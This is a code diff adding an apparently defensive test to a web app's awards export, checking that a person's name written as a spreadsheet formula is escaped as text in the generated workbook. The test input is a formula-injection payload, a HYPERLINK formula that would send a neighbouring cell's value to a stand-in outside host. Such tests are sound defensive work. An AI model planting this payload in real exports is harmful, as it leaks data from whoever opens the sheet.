@@ -78,3 +78,27 @@ async def test_a_certificate_shows_the_recipients_name_with_its_diacritics(
         client, tokens, tree.cs1, f"/decisions/{decision['id']}/certificates/nope"
     )
     assert missing.status_code == 404
+
+
+async def test_a_name_written_as_a_formula_stays_text_in_the_workbook(client, tokens, tree):
+    person = await register(
+        client,
+        tokens,
+        tree.cs1,
+        {
+            "fullName": '=HYPERLINK("http://x.example/?"&B5,"Bấm")',
+            "gender": "MALE",
+            "staffNumber": uuid.uuid4().hex[:10],
+        },
+    )
+    decision = await decided(
+        client,
+        tokens,
+        tree,
+        {"subject": "PERSON", "personId": person["id"], "award": "lao_dong_tien_tien"},
+    )
+    sheet = await fetch(client, tokens, tree.upper1, f"/decisions/{decision['id']}/xlsx")
+    rows = (
+        CalamineWorkbook.from_filelike(io.BytesIO(sheet.content)).get_sheet_by_index(0).to_python()
+    )
+    assert rows[4][1] == "'" + '=HYPERLINK("http://x.example/?"&B5,"Bấm")'
